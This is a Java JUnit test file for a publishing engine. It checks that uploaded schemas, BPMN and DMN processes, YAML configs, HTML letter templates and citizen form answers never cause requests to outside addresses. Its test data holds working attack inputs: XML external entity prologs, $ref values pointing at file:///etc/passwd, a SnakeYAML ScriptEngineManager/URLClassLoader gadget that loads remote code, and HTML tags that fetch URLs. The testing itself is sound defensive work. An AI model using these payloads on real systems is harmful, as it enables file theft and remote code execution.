package org.schalter.publishing;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.schalter.HttpAnswer;
import org.schalter.RunningEngine;
import org.schalter.TinyService;
import org.schalter.process.Bpmn;

/**
 * Whatever address an author or a citizen writes wherever: the engine asks nobody there, be it a neighbour behind the
 * firewall, a file, or something of its own.
 */
class NobodyOutsideIsAskedTests {

    private static final String KEY = "asks-outside";
    private static final RunningEngine ENGINE = RunningEngine.onH2();
    private static final List<String> ASKED = Collections.synchronizedList(new ArrayList<>());
    private static final HttpServer NEIGHBOUR = neighbour();
    private static final String THERE =
            "http://127.0.0.1:" + NEIGHBOUR.getAddress().getPort() + "/";
    private static final String DMN = """
        <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d" name="d" namespace="urn:test">%s
          <decision id="fee" name="fee"><literalExpression><text>1</text></literalExpression></decision></definitions>
        """;
    private static final String STEP = """
        <startEvent id="a"/><sequenceFlow id="f1" sourceRef="a" targetRef="work"/>%s<sequenceFlow id="f2" sourceRef="work" targetRef="b"/><endEvent id="b"/>
        """;
    private static final String LETTER = """
        <serviceTask id="work" s:action="issue-document"><extensionElements><s:input name="document" value="letter"/></extensionElements></serviceTask>\
        """;

    private static HttpServer neighbour() {
        try {
            var server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
            server.createContext("/", exchange -> {
                ASKED.add(exchange.getRequestURI().toString());
                exchange.sendResponseHeaders(200, -1);
                exchange.close();
            });
            server.start();
            return server;
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    @BeforeAll
    static void theNeighbourAnswers() throws IOException {
        java.net.URI.create(THERE).toURL().openStream().close();
        assertThat(ASKED).isNotEmpty();
    }

    @AfterAll
    static void stop() {
        NEIGHBOUR.stop(0);
    }

    @BeforeEach
    void nobodyHasAsked() {
        ASKED.clear();
    }

    /** File, and what stands in it. */
    static Stream<Arguments> addresses() {
        Stream<Arguments> schemas = Stream.of(
                        "\"properties\": {\"a\": {\"$ref\": \"@@a\"}}",
                        "\"properties\": {\"a\": {\"$dynamicRef\": \"@@b\"}}",
                        "\"$schema\": \"@@c\", \"properties\": {\"a\": {}}",
                        "\"$id\": \"@@d\", \"properties\": {\"a\": {\"$ref\": \"other\"}}",
                        "\"properties\": {\"a\": {\"$id\": \"@@e\", \"$ref\": \"x#/y\"}}",
                        "\"$vocabulary\": {\"@@f\": true}, \"properties\": {\"a\": {}}",
                        "\"properties\": {\"a\": {\"$ref\": \"file:///etc/passwd\"}}",
                        "\"properties\": {\"a\": {\"$ref\": \"classpath:application.yaml\"}}",
                        "\"properties\": {\"a\": {\"$ref\": \"jar:@@g!/x\"}}")
                .map(it -> Arguments.of("form/schema.json", "{\"type\": \"object\", " + it + "}"));
        Stream<Arguments> xml = Stream.of(
                        "<!DOCTYPE d SYSTEM \"@@h\">",
                        "<!DOCTYPE d [<!ENTITY % x SYSTEM \"@@i\"> %x;]>",
                        "<!DOCTYPE d PUBLIC \"x\" \"@@j\">")
                .flatMap(prolog -> Stream.of(
                        Arguments.of("process.bpmn", prolog + Bpmn.process(STEP.formatted(LETTER))),
                        Arguments.of("decisions/fee.dmn", prolog + DMN.formatted(""))));
        Stream<Arguments> more = Stream.of(
                Arguments.of(
                        "process.bpmn", Bpmn.process("<import importType=\"x\" location=\"@@l\" namespace=\"x\"/>")),
                Arguments.of(
                        "process.bpmn", Bpmn.process("<x xmlns=\"http://www.w3.org/2001/XInclude\" href=\"@@n\"/>")),
                Arguments.of(
                        "decisions/fee.dmn",
                        DMN.formatted("<import name=\"x\" namespace=\"x\" locationURI=\"@@o\" importType=\"x\"/>")),
                Arguments.of("service.yaml", "schalter: 1\nkey: asks-outside\ntitle: !!java.net.URL [\"@@p\"]\n"),
                Arguments.of(
                        "service.yaml",
                        "schalter: 1\n"
                            + "key: asks-outside\n"
                            + "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                            + " [\"@@q\"]]]]\n"));
        return Stream.of(schemas, xml, more, templates()).flatMap(it -> it);
    }

    private static Stream<Arguments> templates() {
        return Stream.of(
                        "<img src=\"@@r\">",
                        "<p style=\"background: url(@@s)\">a</p>",
                        "<style>@import url(@@t);</style>",
                        "<link rel=\"stylesheet\" href=\"@@u\">",
                        "<object data=\"@@v\"></object>",
                        "<iframe src=\"@@w\"></iframe>",
                        "<svg><image href=\"@@x\"/></svg>",
                        "<base href=\"@@y\">",
                        "<table background=\"@@z\"></table>",
                        "<img src=\"file:///etc/passwd\">")
                .map(it -> Arguments.of("documents/letter.html", page(it)));
    }

    private static String page(String body) {
        return "<html><head><title>Brief</title></head><body>" + body + "</body></html>";
    }

    @ParameterizedTest
    @MethodSource("addresses")
    void byWhatAnAuthorWrites(String file, String content) {
        var hostile = content.replace("@@", THERE);

        HttpAnswer imported = importing(letters().with(file, hostile));
        HttpAnswer published = ENGINE.as("publisher").post("/api/v1/services/" + KEY + "/editions");
        submit(Map.of("name", "Erika"));

        assertThat(ASKED).isEmpty();
        assertThat(imported.status() == 422 || published.status() == 422)
                .as(imported + "\n" + published)
                .isTrue();
        assertThat(published.text()).doesNotContain("root:x:");
    }

    /** What files of other programs have is no harm: nobody follows it. */
    @ParameterizedTest
    @MethodSource("names")
    void byWhatOnlyNamesAPlace(String file, String content) {
        assertThat(importing(letters().with(file, content.replace("@@", THERE))).status())
                .isEqualTo(201);
        ENGINE.as("publisher").post("/api/v1/services/" + KEY + "/editions");
        submit(Map.of("name", "Erika"));

        assertThat(ASKED).isEmpty();
    }

    static Stream<Arguments> names() {
        return Stream.of(
                Arguments.of("process.bpmn", "<?xml-stylesheet href=\"@@j\"?>" + Bpmn.process(STEP.formatted(LETTER))),
                Arguments.of("decisions/fee.dmn", "<?xml-stylesheet href=\"@@k\"?>" + DMN.formatted("")),
                Arguments.of(
                        "process.bpmn",
                        Bpmn.process(STEP.formatted(LETTER))
                                .replaceFirst(
                                        "<process ",
                                        "<process xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
                                                + " xsi:schemaLocation=\"x @@m\" ")));
    }

    @Test
    void byWhatACitizenWrites() {
        assertThat(importing(letters()).status()).isEqualTo(201);
        assertThat(ENGINE.as("publisher")
                        .post("/api/v1/services/" + KEY + "/editions")
                        .status())
                .isEqualTo(201);

        for (var words : List.of("<img src=\"@@\">", "url(@@)", "@@", "<link rel=stylesheet href=@@>")) {
            var sent = submit(Map.of("name", words.replace("@@", THERE)));
            var letter = "/api/v1/submissions/" + sent.json().path("reference").asString() + "/documents/letter";
            org.awaitility.Awaitility.await()
                    .atMost(java.time.Duration.ofMinutes(1))
                    .until(() -> ENGINE.as("clerk").get(letter).status() == 200);
        }

        assertThat(ASKED).isEmpty();
    }

    private static TinyService letters() {
        return TinyService.named(KEY)
                .and("service.yaml", "documents: {letter: {title: {de: Brief, en: Letter}}}\n")
                .with("process.bpmn", Bpmn.process(STEP.formatted(LETTER)))
                .with("documents/letter.html", page("<p>{{ answers.name }}</p>"));
    }

    private static HttpAnswer importing(TinyService service) {
        return ENGINE.as("editor").post("/api/v1/services", "application/zip", service.zip());
    }

    private static HttpAnswer submit(Map<String, String> answers) {
        return ENGINE.anonymous()
                .post(
                        "/api/v1/services/" + KEY + "/submissions",
                        "application/json",
                        tools.jackson.databind.json.JsonMapper.shared()
                                .writeValueAsString(answers)
                                .getBytes(StandardCharsets.UTF_8),
                        "Idempotency-Key",
                        java.util.UUID.randomUUID().toString());
    }
}
